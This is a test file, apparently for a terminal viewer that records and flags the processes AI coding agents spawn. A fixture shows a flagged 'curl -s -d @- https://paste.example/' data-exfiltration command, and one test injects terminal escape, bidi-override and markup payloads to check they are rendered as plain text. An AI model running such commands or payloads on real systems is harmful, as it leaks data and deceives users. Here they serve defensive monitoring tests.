"""The session's page by keys and mouse, over a real database."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import tui_sample as sample
from pilots import make_app, settle, text_of, until
from textual.pilot import Pilot

from agentguard.record.writer import Writer
from agentguard.show.tui.detail_screen import DetailScreen
from agentguard.show.tui.event_log import EventLog
from agentguard.show.tui.process_tree import ProcessTree
from agentguard.show.tui.session_screen import SessionScreen

SHOP, SHOP_EVENTS = sample.shop_session()


@asynccontextmanager
async def session_page(database: Path, size: tuple[int, int] = (120, 36), **more: Any) -> AsyncIterator[Pilot[Any]]:
    async with make_app(database, **more).run_test(size=size) as pilot:
        await settle(pilot)
        await pilot.press("2")
        await until(pilot, lambda: isinstance(pilot.app.screen, SessionScreen) and pilot.app.screen.loaded, "the tree")
        yield pilot


def chosen(pilot: Pilot[Any]) -> str:
    row = pilot.app.screen.query_one(ProcessTree).chosen
    assert row is not None
    return f"{row.process.name} {row.process.pid}"


async def test_it_says_who_ran_what_and_what_each_touched(database: Path) -> None:
    async with session_page(database) as pilot:
        screen = text_of(pilot)
        for part in (
            "command  claude",
            "Claude Code, pid 48213",
            "~/src/shop",
            "since 14:01:37, 30:30",
            "4 of 4 proved",
            "none yet: it is sealed when it ends",
            "└─ ▾ node 48290",
            "Events of 48333: curl -s -d @- https://paste.example/",
        ):
            assert part in screen
        assert chosen(pilot) == "curl 48333", "the gravest is chosen"
        assert len(pilot.app.screen.query_one(EventLog).index) == 1


async def test_a_chosen_process_shows_its_events_and_one_opens(database: Path) -> None:
    async with session_page(database) as pilot:
        await pilot.press("home", "down")
        await pilot.pause()
        assert chosen(pilot) == "node 48290"
        log = pilot.app.screen.query_one(EventLog)
        assert len(log.index) == sum(
            1 for finding, _ in SHOP_EVENTS if finding.process and finding.process.pid == 48290
        )
        log.focus()
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(pilot.app.screen, DetailScreen)
        await pilot.press("escape", "escape")
        await pilot.pause()
        assert pilot.app.screen.PLACE == "Live", "esc goes back to where it came from"


async def test_branches_fold_with_keys_and_mouse(database: Path) -> None:
    async with session_page(database) as pilot:
        await pilot.press("home", "down", "down")
        assert chosen(pilot) == "npm 48240"
        await pilot.press("left")
        await pilot.pause()
        screen = text_of(pilot)
        assert "▸ npm 48240" in screen
        assert "6+" in screen, "what it hides is counted"
        assert "node 48255" not in screen
        await pilot.press("left")
        await pilot.pause()
        assert chosen(pilot) == "node 48290", "left of what is folded is its parent"
        await pilot.press("down", "right")
        await pilot.pause()
        assert "node 48255" in text_of(pilot)
        for line in (3, 4, 4):  # the first click chooses, the second one folds
            await pilot.click(ProcessTree, offset=(10, line))
        await pilot.pause()
        assert "▸ npm 48240" in text_of(pilot)


async def test_those_that_touched_nothing_are_shown_when_asked(database: Path, writer: Writer) -> None:
    finding, _ = SHOP_EVENTS[-1]
    process = finding.process
    assert process is not None
    writer.add_processes(SHOP.uid, [replace(process, pid=48999, start_time=48999, name="idle")])
    writer.flush(10)
    async with session_page(database) as pilot:
        assert "idle 48999" not in text_of(pilot)
        assert "1 not shown" in text_of(pilot)
        await pilot.press("a")
        await pilot.pause()
        assert "idle 48999" in text_of(pilot)
        await pilot.press("a")
        await pilot.pause()
        assert "idle 48999" not in text_of(pilot)


async def test_it_grows_while_one_looks(database: Path, writer: Writer) -> None:
    async with session_page(database) as pilot:
        finding, verdict = SHOP_EVENTS[-1]
        process = finding.process
        assert process is not None
        other = replace(process, pid=48777, start_time=48777, name="scp")
        writer.append(replace(finding, uid="more-1", process=other, flow=None), verdict)
        writer.append(replace(finding, uid="more-2", flow=None), verdict)
        await until(pilot, lambda: "scp 48777" in text_of(pilot), "the new process")
        assert chosen(pilot) == "curl 48333", "the chosen one stays"
        await until(pilot, lambda: len(pilot.app.screen.query_one(EventLog).index) == 2, "its new event")


async def test_another_session_has_another_tree(database: Path) -> None:
    async with session_page(database) as pilot:
        await pilot.press("1", "l", "down", "enter")
        await until(pilot, lambda: pilot.app.snapshot.chosen.agent == "codex", "the other session")
        await pilot.press("2")
        await until(pilot, lambda: "codex 31877" in text_of(pilot) and chosen(pilot) == "codex 31877", "its tree")
        screen = text_of(pilot)
        assert "exited, status 0" in screen
        assert "agentguard verify proves it" in screen


async def test_hostile_processes_are_text(database: Path, writer: Writer) -> None:
    bad = "\x1b[2J[red]x[/red]\u202egnp.\n[@click=app.quit]q[/]"
    finding, verdict = SHOP_EVENTS[-1]
    process = finding.process
    assert process is not None
    hostile = replace(process, pid=48778, start_time=48778, name=bad, exe=bad, cmdline=(bad, bad))
    writer.append(replace(finding, uid="bad", process=hostile, flow=None), verdict)
    writer.add_processes(SHOP.uid, [hostile])
    writer.update_session(replace(SHOP, command=(bad,), cwd=bad, agent_name=bad, agent="unknown"))
    writer.flush(10)
    async with session_page(database) as pilot:
        await pilot.press("end")
        await pilot.pause()
        assert "48778" in chosen(pilot)
        screen = text_of(pilot)
        assert not set(screen) & set("\x1b\u202e\x07")
        assert "Events of 48778" in screen
        assert "[red]x[/red]" in screen
